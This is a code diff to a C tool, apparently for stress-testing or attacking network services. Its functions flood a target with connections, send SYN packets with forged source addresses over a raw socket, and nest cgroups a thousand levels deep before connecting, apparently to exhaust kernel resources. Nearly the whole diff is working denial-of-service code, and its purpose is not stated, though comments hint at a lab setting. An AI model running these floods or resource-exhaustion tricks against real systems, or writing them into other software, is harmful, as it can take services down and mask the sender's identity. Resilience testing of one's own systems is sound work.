@@ -1,13 +1,14 @@
-#include "attack.h"
+#include "segment.h"
 
+#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
-#include <poll.h>
 #include <pthread.h>
 #include <stdatomic.h>
 #include <stdio.h>
 #include <stdlib.h>
-#include <sys/resource.h>
+#include <string.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 static struct target flooded;
@@ -35,12 +36,14 @@ static void *flood(void *nothing)
 	return nothing;
 }
 
-void attack_flood(struct target target, long connects, long threads)
+/* ADDRESS PORT CONNECTS THREADS */
+void attack_flood(char **argument)
 {
+	long threads = atol(argument[3]);
 	pthread_t thread[16];
 
-	flooded = target;
-	rest = connects;
+	flooded = parse_target(argument[0], argument[1]);
+	rest = atol(argument[2]);
 	if (threads > 16)
 		threads = 16;
 	for (long i = 0; i < threads; i++)
@@ -50,24 +53,75 @@ void attack_flood(struct target target, long connects, long threads)
 	printf("%ld begun, %ld refused\n", begun, refused);
 }
 
-/* Opens connections and says nothing on them. */
-void attack_hold(struct target target, long connections, long seconds)
+/* ADDRESS PORT SECONDS: SYNs from 200 addresses that are nobody's. More would fill the
+ * neighbour table of this machine, which is no part of the attack.
+ */
+void attack_half_open(char **argument)
 {
-	struct rlimit limit = { .rlim_cur = 65536, .rlim_max = 65536 };
-	struct pollfd nothing = { .fd = -1 };
+	struct target target = parse_target(argument[0], argument[1]);
+	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	long end = now_ms() + atol(argument[2]) * 1000;
+	uint32_t sent = 0, dropped = 0;
 
-	setrlimit(RLIMIT_NOFILE, &limit);
-	for (long i = 0; i < connections; i++) {
-		int fd = socket(target.any.sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	if (fd < 0)
+		broken("raw socket", errno);
+	while (now_ms() < end) {
+		char address[32];
+		struct target source;
+		struct packet packet;
 
-		if (fd < 0)
-			fail("no socket", errno);
-		if (connect(fd, &target.any, target.length) == 0 || errno == EINPROGRESS)
-			begun++;
-		else
-			refused++;
+		snprintf(address, sizeof(address), "10.88.9.%u", sent % 200 + 10);
+		source = parse_target(address, "0");
+		source.v4.sin_port = htons((uint16_t)(1024 + sent / 200 % 60000));
+		packet = make_segment(source, target, TH_SYN, sent * 7919u, 0, "");
+		if (sendto(fd, packet.bytes, packet.length, 0, &target.any, target.length) < 0) {
+			if (!sent)
+				fail("send", errno);
+			dropped++;
+		}
+		sent++;
 	}
-	printf("%ld begun, %ld refused\n", begun, refused);
-	fprintf(stderr, "holding\n");
-	poll(&nothing, 1, (int)seconds * 1000);
+	printf("%u SYNs sent, %u not\n", sent - dropped, dropped);
+}
+
+/* DIRECTORY COUNT ADDRESS PORT: makes cgroups, a thousand levels deep, moves into the
+ * deepest now and then, and asks from there.
+ */
+void attack_nest(char **argument)
+{
+	struct target target = parse_target(argument[2], argument[3]);
+	long count = atol(argument[1]), made = 0;
+	int fd = -1;
+
+	for (int tree = 0; made < count; tree++) {
+		int directory = open(argument[0], O_RDONLY | O_DIRECTORY);
+
+		for (int level = 0; level < 1000 && made < count; level++, made++) {
+			char child[8];
+			int next;
+
+			snprintf(child, sizeof(child), "%d", level ? 0 : tree);
+			if (mkdirat(directory, child, 0755) < 0)
+				broken("mkdir", errno);
+			next = openat(directory, child, O_RDONLY | O_DIRECTORY);
+			close(directory);
+			directory = next;
+			if (made % 100 == 99) {
+				int procs = openat(directory, "cgroup.procs", O_WRONLY);
+
+				if (procs < 0 || write(procs, "0", 1) != 1)
+					broken("move", errno);
+				close(procs);
+				if (fd >= 0)
+					close(fd);
+				fd = make_stream(target.any.sa_family, 0);
+				if (connect(fd, &target.any, target.length) < 0)
+					fail("connect", errno);
+			}
+		}
+		close(directory);
+	}
+	if (fd < 0)
+		broken("nest", EINVAL);
+	ask(fd);
 }
